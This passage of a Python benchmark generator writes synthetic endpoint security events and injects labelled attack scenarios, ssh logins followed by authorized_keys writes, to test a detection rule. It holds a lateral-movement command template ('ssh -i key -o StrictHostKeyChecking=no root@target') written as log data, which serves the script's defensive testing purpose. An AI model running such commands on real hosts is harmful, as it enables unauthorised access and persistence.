        slots = sorted(r.sample(range(int(n_events * 0.01), int(n_events * 0.92)), n_scenarios))
        kinds = (["tp"] * round(n_scenarios * 0.6) + ["too_far"] * round(n_scenarios * 0.2))
        kinds += ["other_host"] * (n_scenarios - len(kinds))
        r.shuffle(kinds)
        for s, k in zip(slots, kinds):
            scen_slots[s] = k
    pending = []  # heap of (time_ms, seq, builder-args)
    seq_no = 0
    scenarios = []

    counts = {"process": 0, "file": 0, "network": 0, "authentication": 0, "lateral_ssh": 0, "authorized_keys_lone": 0,
              "scenario_ssh": 0, "scenario_authorized_keys": 0, "flattened": 0}
    agents = {}
    kind_bytes = {"process": 0, "file": 0, "network": 0, "authentication": 0}
    flat_rnd = random.Random(seed * 7919 + 17).random  # separate stream: flattening does not change the events
    dumps = orjson.dumps
    rnd = r.random
    expo = r.expovariate
    lam = 1.0 / mean_gap
    t = float(start_ms)
    last_emit = start_ms
    last_sec = -1
    sec_prefix = ""
    buf = []
    nbytes = 0
    t0 = time.perf_counter()
    tmp_path = out_path + ".part"
    with open(tmp_path, "wb") as fh:
        for i in range(n_events):
            t += expo(lam)
            now = int(t)
            if pending and pending[0][0] <= now:
                ems, _, spec = heapq.heappop(pending)
                ems = max(ems, last_emit)
                h, tag = spec
                kind = "file"
            else:
                ems = max(now, last_emit)
                spec = None
            last_emit = ems
            sec = ems // 1000
            if sec != last_sec:
                last_sec = sec
                sec_prefix = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sec))
            ts = "%s.%03dZ" % (sec_prefix, ems % 1000)

            if spec is not None:
                doc = g.ak_write(ts, h, "change" if rnd() < 0.7 else "creation")
                counts["scenario_authorized_keys"] += 1
                tag["second"] = {"host": h.name, "ts": ts, "event_id": doc["event"]["id"]}
            elif i in scen_slots:
                k = scen_slots[i]
                h = hosts[int(rnd() * n_hosts)]
                user = h.ak_users[int(rnd() * len(h.ak_users))]
                key = _fmt(r.choice(KEYS), user)
                cmd = ("/usr/bin/ssh", ["ssh", "-i", key, "-o", "StrictHostKeyChecking=no", "root@" + _tgt(r)])
                doc = g.process(ts, h, cmd)
                kind = "process"
                counts["scenario_ssh"] += 1
                if k == "tp":
                    delay = r.randint(30_000, 240_000)
                    h2 = h
                elif k == "too_far":
                    delay = r.randint(330_000, 1_800_000)
                    h2 = h
                else:
                    delay = r.randint(30_000, 240_000)
                    h2 = hosts[(hosts.index(h) + 1 + int(rnd() * (n_hosts - 1))) % n_hosts]
                tag = {"kind": k, "first": {"host": h.name, "ts": ts, "event_id": doc["event"]["id"]}, "delay_ms": delay}
                scenarios.append(tag)
                seq_no += 1
                heapq.heappush(pending, (ems + delay, seq_no, (h2, tag)))
            else:
                x = rnd()
                h = hosts[int(rnd() * n_hosts)]
                if x < 0.70:
                    kind = "process"
                    if rnd() < lateral_rate:
                        u = h.users[int(rnd() * len(h.users))]
                        doc = g.process(ts, h, g.lateral[int(rnd() * 100)](r, u))
                        counts["lateral_ssh"] += 1
                    else:
                        doc = g.process(ts, h)
                elif x < 0.90:
                    kind = "file"
                    if rnd() < ak_rate:
                        doc = g.ak_write(ts, h)
                        counts["authorized_keys_lone"] += 1
                    else:
                        doc = g.file(ts, h)
                elif x < 0.96:
                    kind = "network"
                    doc = g.network(ts, h)
                else:
                    kind = "authentication"
                    doc = g.auth(ts, h)
            counts[kind] += 1
            at = doc["agent"]["type"]
            agents[at] = agents.get(at, 0) + 1
            if frac and flat_rnd() < frac:
                doc = flatten(doc)
                counts["flattened"] += 1
            line = dumps(doc)
            kind_bytes[kind] += len(line) + 1
            buf.append(line)
            if len(buf) >= 20000:
                chunk = b"\n".join(buf) + b"\n"
                fh.write(chunk)
                nbytes += len(chunk)
                buf.clear()
                if progress and (i + 1) % 200000 == 0:
                    print("  %9d events  %6.1f s" % (i + 1, time.perf_counter() - t0), file=sys.stderr)
        if buf:
            chunk = b"\n".join(buf) + b"\n"
            fh.write(chunk)
            nbytes += len(chunk)
    os.replace(tmp_path, out_path)
    elapsed = time.perf_counter() - t0
    if pending:  # follow-ups that would fall after the last event are dropped
        for _, _, (_, tag) in pending:
            tag["second"] = None
    meta = {
        "generator": "bench/generate.py", "seed": seed, "events": n_events, "hosts": n_hosts, "hours": hours,
        "start": start, "flatten_ratio": flatten_ratio, "bytes": nbytes,
        "bytes_per_line": round(nbytes / max(n_events, 1), 1),
        "bytes_per_line_by_kind": {k: round(kind_bytes[k] / counts[k], 1) if counts[k] else None for k in kind_bytes},
        "counts": counts, "agents": agents, "seconds": round(elapsed, 2),
        "first_timestamp": None, "last_timestamp": "%s.%03dZ" % (sec_prefix, last_emit % 1000),
        "scenarios": scenarios,
    }
    with open(out_path, "rb") as fh:
        first = fh.readline()
        meta["first_timestamp"] = orjson.loads(first).get("@timestamp") if first else None
    with open(out_path + ".meta.json", "wb") as fh:
        fh.write(orjson.dumps(meta, option=orjson.OPT_INDENT_2))
    return meta


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--events", type=int, default=1_000_000, help="number of events (default 1,000,000)")
    ap.add_argument("--out", default="bench/data/events_1m.ndjson", help="output NDJSON path")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--hosts", type=int, default=200)
    ap.add_argument("--hours", type=float, default=24.0, help="time span of the stream (default 24)")
    ap.add_argument("--start", default=DEFAULT_START, help="first timestamp, YYYY-MM-DDTHH:MM:SSZ")
    ap.add_argument("--scenarios", type=int, default=50, help="injected ssh -> authorized_keys pairs (default 50)")
    ap.add_argument("--flatten-ratio", type=float, default=0.0,
                    help="fraction of events written with flattened dotted keys (default 0)")
    ap.add_argument("--quiet", action="store_true")
    a = ap.parse_args(argv)
    if not 0.0 <= a.flatten_ratio <= 1.0:
        ap.error("--flatten-ratio must be within [0, 1]")
    d = os.path.dirname(a.out)
    if d:
        os.makedirs(d, exist_ok=True)
    meta = generate(a.out, a.events, seed=a.seed, hours=a.hours, n_hosts=a.hosts, n_scenarios=a.scenarios,
                    flatten_ratio=a.flatten_ratio, start=a.start, progress=not a.quiet)
    c = meta["counts"]
    n = max(meta["events"], 1)
    print("wrote %s: %d events, %d bytes (%.1f B/line) in %.1f s (%.0f events/s)" % (
        a.out, meta["events"], meta["bytes"], meta["bytes_per_line"], meta["seconds"], meta["events"] / max(meta["seconds"], 1e-9)))
    print("  mix: process %.1f%%, file %.1f%%, network %.1f%%, authentication %.1f%%" % tuple(
        100.0 * c[k] / n for k in ("process", "file", "network", "authentication")))
    print("  B/line by kind: %s" % ", ".join("%s %s" % kv for kv in meta["bytes_per_line_by_kind"].items()))
    print("  attack material: %d lateral ssh, %d lone authorized_keys writes, %d scenarios (%s); flattened %d" % (
        c["lateral_ssh"], c["authorized_keys_lone"], len(meta["scenarios"]),
        ", ".join("%s %d" % (k, sum(1 for s in meta["scenarios"] if s["kind"] == k)) for k in ("tp", "too_far", "other_host")),
        c["flattened"]))
    print("  time range: %s .. %s; metadata: %s.meta.json" % (meta["first_timestamp"], meta["last_timestamp"], a.out))


if __name__ == "__main__":
    main()
